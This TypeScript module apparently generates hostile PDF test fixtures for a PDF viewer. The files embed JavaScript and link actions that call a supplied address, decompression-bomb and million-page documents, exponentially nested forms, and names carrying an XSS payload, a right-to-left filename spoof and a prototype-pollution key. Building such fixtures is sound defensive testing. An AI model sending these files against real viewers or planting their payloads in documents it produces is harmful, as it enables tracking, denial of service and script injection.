/** Documents that attack the drawing program by actions or by their use of resources. */
import { flateRepeat, onePage } from './hostile.ts';

const FONT = '/Resources<</Font<</F 5 0 R>>>>';
const HELVETICA = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';

function saying(words: string): string {
  return `BT /F 24 Tf 72 700 Td (${words}) Tj ET`;
}

/** Everything that makes a careless viewer act or call an address. All parts use `address`. */
export function callsHome(address: string): Uint8Array {
  const script = `<</S/JavaScript/JS(app.launchURL\\('${address}/script', true\\); this.submitForm\\('${address}/submitted'\\); fetch\\('${address}/fetch'\\);)>>`;
  const actions = `/OpenAction ${script}/AA<</WC ${script}/WP ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>>>`;
  const link = (action: string) =>
    `<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A ${action}/AA<</PO ${action}/PV ${action}>>>>`;
  const annotations = [
    link(`<</S/URI/URI(${address}/uri)>>`),
    link(`<</S/SubmitForm/F<</FS/URL/F(${address}/form)>>>>`),
    link(`<</S/GoToR/F<</FS/URL/F(${address}/remote.pdf)>>/D[0/Fit]/NewWindow true>>`),
    link(`<</S/Launch/F(${address}/launch)>>`),
    link(`<</S/ImportData/F<</FS/URL/F(${address}/data.fdf)>>>>`),
    `<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</FS/URL/F(${address}/attached)>>>>`,
    `<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${address}/film)>>>>>>>>>>`,
    `<</Type/Annot/Subtype/FreeText/Rect[0 0 9 9]/RC(<body><img src="${address}/rich"/></body>)/Contents(x)>>`,
  ];
  return (
    onePage(
      `/Resources<</Font<</F 11 0 R/G 5 0 R>>/XObject<</X 7 0 R/Y 8 0 R>>>>/Annots[${annotations.join('')}]/AA<</O ${script}>>`,
      `${actions}/AcroForm<</XFA 9 0 R/Fields[]/NeedAppearances true>>`,
    )
      .stream(4, '', `${saying('I call home')} BT /G 9 Tf (G) Tj ET /X Do /Y Do`)
      .object(
        5,
        `<</Type/Font/Subtype/TrueType/BaseFont/Evil/FirstChar 32/LastChar 32/Widths[500]/FontDescriptor 6 0 R>>`,
      )
      .stream(
        6,
        `/Type/FontDescriptor/FontName/Evil/Flags 32/FontFile2 10 0 R/F<</FS/URL/F(${address}/descriptor)>>`,
        '',
      )
      // These streams state that their data are in files elsewhere.
      .stream(
        7,
        `/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${address}/image)>>`,
        '',
      )
      .stream(8, `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(${address}/reference.pdf)>>/Page 0>>`, '')
      .stream(
        9,
        '',
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>fetch("${address}/xfa")</script></event><field><ui><imageEdit/></ui><value><image href="${address}/xfa-image"/></value></field></subform></template></xdp:xdp>`,
      )
      .stream(10, `/F<</FS/URL/F(${address}/font.ttf)>>`, '')
      .object(11, HELVETICA)
      .table()
  );
}

/** An image of 10,000 by 10,000 pixels in some kilobytes. */
export function hugeImage(): Uint8Array {
  const side = 10_000;
  return onePage('/Resources<</XObject<</X 5 0 R>>>>')
    .stream(4, '', 'q 612 0 0 792 0 0 cm /X Do Q')
    .stream(
      5,
      `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode`,
      flateRepeat(new Uint8Array(3 * side).fill(0x40), side),
    )
    .table();
}

/** A page of some hundred square kilometres. */
export function hugePage(): Uint8Array {
  return onePage(`${FONT}/MediaBox[0 0 99999999 99999999]`)
    .stream(4, '', saying('I am large'))
    .object(5, HELVETICA)
    .table();
}

/** A page of the greatest length and almost no width. */
export function ribbon(): Uint8Array {
  return onePage(`${FONT}/MediaBox[0 0 1 9999999]`).stream(4, '', saying('I am long')).object(5, HELVETICA).table();
}

/** One page, repeated a million times with six bytes each. */
export function millionPages(): Uint8Array {
  const count = 1_000_000;
  return onePage(FONT)
    .object(2, `<</Type/Pages/Kids[${'3 0 R '.repeat(count)}]/Count ${count}>>`)
    .stream(4, '', saying('I am many'))
    .object(5, HELVETICA)
    .table();
}

/** Forms that draw ten forms each, twelve levels deep. No reader finishes the drawing. */
export function neverDrawn(): Uint8Array {
  const depth = 12;
  const file = onePage('/Resources<</XObject<</X 5 0 R>>>>').stream(4, '', '/X Do');
  for (let level = 0; level < depth; level += 1) {
    const resources = `/Resources<</XObject<</X ${level + 6} 0 R>>>>`;
    file.stream(5 + level, `/Type/XObject/Subtype/Form/BBox[0 0 612 792]${resources}`, '/X Do '.repeat(10));
  }
  return file.stream(5 + depth, '/Type/XObject/Subtype/Form/BBox[0 0 612 792]', '0 0 m 9 9 l S').table();
}

/** A text with markup, with a change of the writing direction, and with a line end for terminals. */
export const HOSTILE_NAME = '<img src=x onerror="document.title=1">\u202Efdp.exe\u0007';

/** A document in which every name is hostile: title, keys, fields, files, fonts, deeply nested bookmarks. */
export function hostileNames(): Uint8Array {
  const name = `<FEFF${Buffer.from(HOSTILE_NAME, 'utf16le').swap16().toString('hex')}>`;
  const depth = 5_000;
  const field = `<</FT/Tx/T ${name}/V ${name}/TU ${name}/Type/Annot/Subtype/Widget/Rect[72 600 300 620]/DA(/F 9 Tf)>>`;
  const file = onePage(
    `${FONT}/Annots[8 0 R<</Type/Annot/Subtype/Text/Rect[9 9 20 20]/T ${name}/Contents ${name}>>]`,
    `/Outlines 20 0 R/AcroForm<</Fields[8 0 R]/DR<</Font<</F 5 0 R>>>>>>/Names<</EmbeddedFiles<</Names[${name} 9 0 R]>>/JavaScript<</Names[${name}<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>`,
  )
    .stream(4, '', saying('My names are strange'))
    .object(5, '<</Type/Font/Subtype/Type1/BaseFont/#3Cimg#20src=x#20onerror=alert#281#29#3E>>')
    .object(6, `<</Title ${name}/Author ${name}/Producer ${name}/__proto__ ${name}/constructor(a)/toString(b)>>`)
    .object(8, field)
    .object(9, `<</Type/Filespec/F ${name}/UF ${name}/EF<</F 10 0 R>>>>`)
    .stream(10, '/Type/EmbeddedFile/Subtype/text#2Fhtml', '<script>document.title=1</script>');
  file.object(20, '<</Type/Outlines/First 21 0 R/Last 21 0 R>>');
  for (let level = 1; level < depth; level += 1) {
    file.object(
      20 + level,
      `<</Title ${name}/Parent ${19 + level} 0 R/First ${21 + level} 0 R/Last ${21 + level} 0 R>>`,
    );
  }
  return file.object(20 + depth, `<</Title ${name}/Parent ${19 + depth} 0 R>>`).table('/Root 1 0 R/Info 6 0 R');
}
